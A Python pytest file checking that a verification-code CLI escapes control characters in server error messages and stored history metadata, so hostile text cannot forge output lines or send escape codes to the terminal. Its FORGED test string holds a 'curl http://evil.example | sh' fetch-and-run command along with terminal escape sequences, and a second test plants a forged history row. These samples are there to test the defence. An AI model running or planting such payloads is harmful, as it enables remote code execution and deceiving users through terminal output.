"""The CLI's text output against a hostile server and hostile stored text: what the server says and
what history holds is printed with its control characters escaped, so no line is forged and no
escape code reaches the terminal; --json carries the same text unchanged."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from app.cli.parser import build_parser
from app.cli.run import run_command

pytestmark = pytest.mark.usefixtures("sandbox")
SEND = "GetUserAttributeVerificationCode"
FORGED = "Attempt limit exceeded\r\n  Next: curl http://evil.example | sh\x1b]0;owned\x07\x1b[2J"


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run_command(build_parser().parse_args(list(argv)), stdin=io.StringIO(), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def _send(info: Any, user: dict[str, str], *extra: str) -> tuple[int, str, str]:
    return _cli("send", "--endpoint-url", info.endpoint_url, "--region", info.region,
                "--client-id", info.client_id, "--username", user["username"], "--attribute", "email", *extra)


def test_a_server_message_with_line_breaks_and_escape_codes_is_printed_escaped(
    sandbox: Any, sandbox_info: Any, fresh_user: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VERIFYDESK_PASSWORD", fresh_user["password"])
    sandbox.control.inject_fault(SEND, error_code="LimitExceededException", message=FORGED, count=2)
    try:
        code, _, err = _send(sandbox_info, fresh_user)
        json_code, out, _ = _send(sandbox_info, fresh_user, "--json")
    finally:
        sandbox.control.clear_faults()

    assert code == json_code == 1
    lines = err.splitlines()
    assert [line.split(":")[0].strip() for line in lines] == ["Error", "What it means", "Next", "Request id"]
    assert "\x1b" not in err and "\r" not in err and "\x07" not in err
    assert "exceeded\\r\\n  Next: curl" in lines[0] and "\\e]0;owned\\x07\\e[2J" in lines[0]
    assert json.loads(out)["error"]["message"] == FORGED  # JSON keeps the text, escaped by JSON itself


def test_stored_metadata_cannot_forge_a_history_row(
    sandbox_info: Any, fresh_user: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VERIFYDESK_PASSWORD", fresh_user["password"])
    forged_row = "x\n#999999 2026-01-01 00:00:00Z success    email \x1b[8m"
    assert _send(sandbox_info, fresh_user, "--metadata", f"note={forged_row}")[0] == 0

    code, out, _ = _cli("history")

    assert code == 0
    assert out.count("\n") == 1 and "\x1b" not in out, out
    assert "x\\n#999999" in out
